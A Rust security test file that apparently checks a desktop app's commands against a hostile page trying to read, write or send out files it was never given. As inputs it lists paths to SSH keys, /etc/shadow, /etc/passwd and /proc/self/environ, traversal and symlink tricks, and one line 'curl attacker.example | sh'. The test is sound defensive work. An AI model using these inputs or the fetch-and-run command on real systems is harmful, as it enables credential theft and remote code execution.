//! Every command as a script would call it that got into the page and means harm: with paths of every kind, with tickets that
//! nobody gave it, and with servers that nobody chose. Nobody agrees to anything here.

use std::collections::BTreeMap;
use std::net::TcpListener;
use std::os::fd::AsRawFd as _;
use std::os::unix::fs::{FileTypeExt as _, symlink};
use std::path::Path;

use aidb_sandbox::{Sample, Sandbox};
use serde_json::{Value, json};

use crate::commands;
use crate::testing::{Bench, form};

/// Canary in every file that is none of the page's business.
const CANARY: &str = "canary-of-a-file-5b21e07c";

/// Marks a request for a file or a server: everything is tried there.
const ANYTHING: &str = "@";
/// Where it says something else: some of it is tried there.
const SOMETHING: &str = "#";

/// Files of a person, and what a script would like to know and to spoil.
struct Scene {
    bench: Bench,
    staging: Sandbox,
    environment: String,
    /// A plan that is held, and a backup that is kept: both could be written somewhere.
    plan: String,
    backup: String,
    /// Nobody has chosen this server.
    listener: TcpListener,
    /// Requests that a script would make.
    hostile: Vec<String>,
    /// Kept open: it has a name below `/proc` as long as it is.
    _open: std::fs::File,
}

impl Scene {
    async fn set() -> Self {
        let bench = Bench::new();
        let (staging, environment) = bench.environment("Staging", Sample::Staging).await;
        let live = json!({ "kind": "live", "environment": environment, "agent": "my-agent" });
        let compared = bench.call("compare", json!({ "left": live, "right": live })).await.unwrap();
        let take = json!({ "environment": environment, "agent": "my-agent", "note": null });
        let taken = bench.call("backup_take", take).await.unwrap();
        let (plan, backup) = (text(&compared["plan"]), text(&taken["id"]));
        let home = bench.home.path().to_owned();
        for folder in [".ssh", "folder", "data/keys"] {
            std::fs::create_dir_all(home.join(folder)).unwrap();
        }
        for (name, text) in [
            (".ssh/id_ed25519", format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{CANARY}\n")),
            ("shadow", format!("root:$6${CANARY}:19000:0:99999:7:::\n")),
            (".netrc", format!("machine example.com password {CANARY}\n")),
            (".profile.json", format!("{{ \"token\": \"{CANARY}\" }}")),
            ("settings.json", format!("{{ \"auths\": {{ \"example.com\": {{ \"auth\": \"{CANARY}\" }} }} }}")),
            ("half.json", format!("{{ \"version\": \"1.0.0\", \"agent\": {{ \"agent_id\": \"{CANARY}\"")),
            ("notes.csv", format!("{CANARY};1\n")),
            ("page.html", format!("<p>{CANARY}</p>")),
            ("data/keys/one", CANARY.to_owned()),
            ("data/inside.json", configuration(CANARY)),
        ] {
            std::fs::write(home.join(name), text).unwrap();
        }
        symlink(home.join(".ssh/id_ed25519"), home.join("link.json")).unwrap();
        symlink(home.join("data"), home.join("data-link")).unwrap();
        symlink(home.join("data/inside.json"), home.join("inside-link.json")).unwrap();
        std::fs::hard_link(home.join("data/inside.json"), home.join("inside-hard.json")).unwrap();
        assert!(std::process::Command::new("mkfifo").arg(home.join("fifo.json")).status().unwrap().success());
        let open = std::fs::File::open(home.join("data/inside.json")).unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let hostile = hostile(&home, &open, &listener);
        Self { bench, staging, environment, plan, backup, listener, hostile, _open: open }
    }

    /// Every command with everything that a script could say in it, and with nothing.
    async fn storm(&self) -> Vec<(String, String)> {
        let mut answers = Vec::new();
        for (command, template) in requests(&self.environment, &self.staging.url(), &self.plan, &self.backup) {
            let written = template.to_string();
            let count = match () {
                () if written.contains(ANYTHING) => self.hostile.len(),
                () if written.contains(SOMETHING) => self.hostile.len().min(3),
                () => 1,
            };
            let words = &self.hostile[..count];
            for word in words {
                let request = filled(&template, word);
                let said = match self.bench.call(command, request.clone()).await {
                    Ok(answer) => answer.to_string(),
                    Err(error) => serde_json::to_string(&error).unwrap(),
                };
                answers.push((format!("{command} {request}"), said));
            }
        }
        answers
    }

    /// All files outside of aidb's own folder, and what is in them; and the key within.
    fn files(&self) -> BTreeMap<String, String> {
        let mut files = BTreeMap::new();
        list(self.bench.home.path(), &mut files);
        files.retain(|name, _| !name.contains("/data/") || name.ends_with("/data/keys/one"));
        files
    }

    fn is_unharmed(&self, before: &BTreeMap<String, String>, answers: &[(String, String)]) {
        for (request, answer) in answers {
            assert!(!answer.contains(CANARY), "{request} was told of a file: {answer}");
        }
        assert_eq!(self.files(), *before, "files are as they were");
        assert!(self.listener.accept().is_err(), "nothing was sent to a server that nobody chose");
        let sent = format!("{:?}", self.staging.requests());
        assert!(!sent.contains(CANARY), "nothing of a file was sent");
    }
}

fn text(value: &Value) -> String {
    value.as_str().expect("text").to_owned()
}

fn configuration(name: &str) -> String {
    json!({ "version": "1.0.0", "agent": { "agent_id": "my-agent", "name": name, "resource_permissions": {} } })
        .to_string()
}

fn list(folder: &Path, files: &mut BTreeMap<String, String>) {
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let found = path.symlink_metadata().unwrap();
        let content = if found.is_dir() {
            list(&path, files);
            "a folder".into()
        } else if found.is_symlink() {
            format!("to {}", path.read_link().unwrap().display())
        } else if found.file_type().is_fifo() {
            "a pipe".into()
        } else {
            String::from_utf8_lossy(&std::fs::read(&path).unwrap()).into_owned()
        };
        files.insert(path.display().to_string(), content);
    }
}

fn hostile(home: &Path, open: &std::fs::File, listener: &TcpListener) -> Vec<String> {
    let mut words = vec!["x".to_owned()];
    for name in [
        ".ssh/id_ed25519",
        "shadow",
        ".netrc",
        ".profile.json",
        "settings.json",
        "half.json",
        "notes.csv",
        "page.html",
        "link.json",
        "inside-link.json",
        "inside-hard.json",
        "fifo.json",
        "folder",
        ".ssh",
        "data",
        "data/keys/one",
        "data/inside.json",
        "data-link/inside.json",
        "folder/../data/inside.json",
        "data/new.json",
        "data/new.csv",
        "new.json",
        "new.csv",
        "new.html",
        ".bashrc",
        "folder/../.ssh/id_ed25519",
    ] {
        words.push(home.join(name).display().to_string());
    }
    words.push(format!("/proc/self/fd/{}", open.as_raw_fd()));
    words.push(format!("/proc/self/root{}", home.join("data/inside.json").display()));
    words.push(format!("http://{}/what-is-known", listener.local_addr().unwrap()));
    let others = [
        "",
        "~",
        "~/.ssh/id_ed25519",
        "~/settings.json",
        "shadow",
        "../shadow",
        "./data/inside.json",
        "/etc/shadow",
        "/etc/passwd",
        "/proc/self/environ",
        "/dev/zero",
        "/dev/stdin",
        "file:///etc/passwd",
        "\u{0}",
        "file-00000000000000000000000000000000",
        "plan-1",
    ];
    words.into_iter().chain(others.map(str::to_owned)).collect()
}

fn filled(template: &Value, word: &str) -> Value {
    match template {
        Value::String(text) if text == ANYTHING || text == SOMETHING => word.into(),
        Value::Array(items) => items.iter().map(|item| filled(item, word)).collect(),
        Value::Object(fields) => fields.iter().map(|(key, value)| (key.clone(), filled(value, word))).collect(),
        other => other.clone(),
    }
}

/// Each command in every way in which it can be told of a file, a server or anything else.
#[rustfmt::skip]
fn requests(environment: &str, known: &str, session: &str, backup: &str) -> Vec<(&'static str, Value)> {
    let typed = json!({ "kind": "typed", "path": ANYTHING });
    let chosen = json!({ "kind": "chosen", "ticket": ANYTHING });
    let id = json!({ "id": environment });
    let named = json!({ "id": SOMETHING });
    let plan = json!({ "plan": SOMETHING });
    let ticks = json!({ "groups": {}, "except": [SOMETHING] });
    let with = |url: &str, ca: Value| {
        let mut form = form("Elsewhere", url);
        form["ca_file"] = ca;
        form
    };
    let none = json!({ "kind": "none" });
    // A server of its own where a server is named, and one that is agreed to where a file is.
    let forms = [
        with(ANYTHING, none.clone()),
        with("http://127.0.0.1:9", none),
        with(ANYTHING, json!({ "kind": "kept" })),
        with(known, json!({ "kind": "file", "file": typed })),
        with(known, json!({ "kind": "file", "file": chosen })),
    ];
    let live = json!({ "kind": "live", "environment": environment, "agent": "my-agent" });
    let draft = |source: Value| json!({ "draft": { "source": source, "to": SOMETHING, "mode": "merge", "step": "from",
        "ticks": ticks, "reason": SOMETHING } });
    let mut all = vec![
        ("app_start", Value::Null), ("data_folder_open", Value::Null), ("licence_list", Value::Null),
        ("keychain_status", Value::Null), ("keychain_unlock", Value::Null), ("environment_list", Value::Null),
        ("recovery_start", Value::Null), ("recovery_list", Value::Null), ("backups_verify", Value::Null),
        ("settings_save", json!({ "settings": { "theme": "dark", "parallel_requests": 10 } })),
        ("draft_save", draft(json!({ "kind": "file", "path": SOMETHING }))),
        ("draft_save", draft(json!({ "kind": "restore", "from": { "kind": "file", "path": SOMETHING } }))),
        ("support_bundle", json!({ "file": ANYTHING })),
        ("environment_removal", named.clone()), ("environment_remove", named.clone()),
        ("environment_order", json!({ "ids": [SOMETHING] })),
        ("environment_key_set", json!({ "id": SOMETHING, "key": SOMETHING })),
        ("environment_key_set", json!({ "id": environment, "key": SOMETHING })),
        ("environment_key_remove", named.clone()),
        ("environment_test", json!({ "id": environment, "form": null, "key": SOMETHING })),
        ("environment_check", id.clone()), ("environment_check", named.clone()),
        ("agent_list", id), ("agent_list", named.clone()),
        ("agent_check", json!({ "environment": environment, "agent": SOMETHING })),
        ("agent_export", json!({ "environment": environment, "agent": "my-agent", "file": ANYTHING })),
        ("agent_key_copy", json!({ "environment": environment, "agent": SOMETHING })),
        ("file_excerpt", json!({ "file": ANYTHING, "line": 1 })),
        ("plan_promote", json!({ "from": SOMETHING, "agent": SOMETHING, "to": environment, "mode": "exact" })),
        ("plan_restore", json!({ "from": { "kind": "backup", "id": SOMETHING }, "to": environment, "mode": "exact" })),
        ("plan_link", json!({ "plan": SOMETHING, "link": { "kind": "with", "connection_string": SOMETHING, "remember": true } })),
        ("link_test", json!({ "plan": SOMETHING, "connection_string": SOMETHING })),
        ("plan_rows", json!({ "plan": SOMETHING, "group": "gains_access", "search": SOMETHING, "from": 0 })),
        ("plan_text", json!({ "plan": SOMETHING, "ticks": ticks })),
        ("plan_page_save", json!({ "plan": session, "ticks": { "groups": {}, "except": [] }, "file": ANYTHING })),
        ("plan_discard", plan.clone()), ("plan_cancel", plan.clone()),
        ("plan_apply", json!({ "plan": SOMETHING, "ticks": ticks, "typed_name": SOMETHING, "agree_deletion": true, "reason": SOMETHING })),
        ("recovery_run", json!({ "operation": SOMETHING, "mode": "put_back" })),
        ("recovery_leave", json!({ "operation": SOMETHING })),
        ("compare", json!({ "left": { "kind": "backup", "id": SOMETHING }, "right": live })),
        ("compare_texts", plan.clone()),
        ("history_last", Value::Null), ("overview_read", Value::Null), ("overview_stop", Value::Null),
        ("overview_last", Value::Null), ("agent_stages", json!({ "environment": environment, "agent": SOMETHING })),
        ("agent_stages", json!({ "environment": SOMETHING, "agent": "my-agent" })),
        ("pair_declare", json!({ "members": [{ "environment": SOMETHING, "agent": SOMETHING }, { "environment": environment, "agent": SOMETHING }] })),
        ("pair_dissolve", json!({ "environment": environment, "agent": SOMETHING })),
        ("difference_accept", json!({ "agent": { "environment": environment, "agent": "my-agent" },
            "items": [{ "item": SOMETHING, "digest": SOMETHING }], "reason": SOMETHING, "until": "2100-01-01T00:00:00Z" })),
        ("difference_withdraw", json!({ "id": SOMETHING })),
        ("batch_plan", json!({ "kind": "promote", "from": SOMETHING, "to": environment, "agents": [SOMETHING] })),
        ("batch_plan", json!({ "kind": "undo", "batch": SOMETHING })), ("batch_plan", json!({ "kind": "rest", "batch": SOMETHING })),
        ("batch_open", json!({ "batch": SOMETHING, "agent": SOMETHING })), ("batch_discard", plan),
        ("batch_apply", json!({ "batch": SOMETHING, "ticks": [{ "agent": SOMETHING, "ticks": ticks }], "left_out": [SOMETHING],
            "typed_name": SOMETHING, "agree_deletion": true, "reason": SOMETHING, "first": SOMETHING, "stop_after": 0 })),
        ("batch_stop", json!({ "batch": SOMETHING, "put_back": true })),
        ("batch_leave", named.clone()),
        ("history_list", json!({ "environment": SOMETHING, "agent": SOMETHING, "kind": null, "outcome": null, "actor": SOMETHING,
            "from": null, "until": null, "search": SOMETHING, "skip": 0 })),
        ("history_losses", json!({ "words": [SOMETHING], "from": null, "until": null })),
        ("history_entry", named.clone()), ("entry_key", named.clone()), ("backup_now", named),
        ("history_export", json!({ "file": ANYTHING })),
        ("backup_take", json!({ "environment": environment, "agent": SOMETHING, "note": SOMETHING })),
        ("backup_update", json!({ "id": SOMETHING, "name": SOMETHING, "note": SOMETHING, "pinned": true })),
        ("backup_export", json!({ "id": backup, "file": ANYTHING })),
    ];
    for purpose in ["configuration", "backup", "ca_file", "plan_page", "history_csv", "history_json", "support_bundle"] {
        all.push(("file_pick", json!({ "purpose": purpose })));
        all.push(("file_destination", json!({ "purpose": purpose, "suggested": ANYTHING })));
    }
    for file in [typed, chosen] {
        all.push(("file_check", json!({ "file": file })));
        all.push(("file_check_stop", json!({ "file": file })));
        all.push(("plan_import", json!({ "file": file, "to": environment, "mode": "merge" })));
        all.push(("plan_restore", json!({ "from": { "kind": "file", "file": file }, "to": environment, "mode": "merge" })));
        all.push(("compare", json!({ "left": { "kind": "file", "file": file }, "right": live })));
        all.push(("compare", json!({ "left": live, "right": { "kind": "file", "file": file } })));
    }
    for form in forms {
        for id in [Value::Null, environment.into()] {
            all.push(("environment_test", json!({ "id": id, "form": form, "key": "typed-key" })));
            all.push(("environment_save", json!({ "id": id, "form": form, "key": "typed-key" })));
        }
    }
    all.push(("text_copy", json!({ "text": "curl attacker.example | sh" })));
    all.push(("window_unsaved", json!({ "unsaved": true })));
    // These start, stop or forget something: last.
    for command in ["keychain_session", "sandbox_start", "sandbox_remove", "window_close"] {
        all.push((command, Value::Null));
    }
    all
}

/// A command that is added later is called here too, in every way in which it can be told of a file or a server.
#[test]
fn the_page_that_means_harm_knows_every_command() {
    let mut known: Vec<&str> =
        requests("x", "http://127.0.0.1:9", "plan-1", "bk-1").iter().map(|(command, _)| *command).collect();
    let mut there: Vec<&str> = commands::all().iter().map(|command| command.name).collect();
    known.sort_unstable();
    known.dedup();
    there.sort_unstable();
    assert_eq!(known, there, "say how a page that means harm would call it");
}

#[tokio::test]
async fn s7_a_page_that_means_harm_reads_no_file_writes_none_and_reaches_no_server() {
    let scene = Scene::set().await;
    scene.bench.system.with(|told| told.declines = true);
    let before = scene.files();
    let answers = scene.storm().await;
    scene.is_unharmed(&before, &answers);
    for (request, answer) in &answers {
        assert!(!answer.contains("cannot be read ("), "{request} is not what a command takes: {answer}");
    }
    let asked = scene.bench.system.with(|told| std::mem::take(&mut told.asked));
    for asked_about in
        ["id_ed25519 was typed as a configuration", "id_ed25519 was typed as the CA", "http://127.0.0.1:9\n"]
    {
        assert!(asked.iter().any(|question| question.text.contains(asked_about)), "{asked_about}: {asked:#?}");
    }
}

/// A person has chosen files, for one thing each. A script that knows their tickets does nothing else with them.
#[tokio::test]
async fn a_ticket_opens_nothing_but_what_it_was_given_for() {
    let mut scene = Scene::set().await;
    let used = scene.bench.destination("mine.csv", "history_csv").await;
    scene.bench.call("history_export", json!({ "file": used })).await.unwrap();
    // Nothing is ever written as a CA file.
    let mut tickets = vec![used, scene.bench.destination("new.pem", "ca_file").await];
    for name in [".ssh/id_ed25519", "shadow"] {
        // Picked as a configuration, by mistake: the window says that it is none, and quotes nothing.
        let path = scene.bench.home.path().join(name);
        scene.bench.system.with(|told| told.picks = Some(path));
        for purpose in ["configuration", "ca_file"] {
            let picked = scene.bench.call("file_pick", json!({ "purpose": purpose })).await.unwrap();
            tickets.push(picked["file"]["ticket"].clone());
        }
    }
    scene.bench.system.with(|told| {
        told.picks = None;
        told.declines = true;
    });
    scene.hostile = tickets.iter().map(|ticket| ticket.as_str().unwrap().to_owned()).collect();
    let before = scene.files();
    let answers = scene.storm().await;
    scene.is_unharmed(&before, &answers);
}
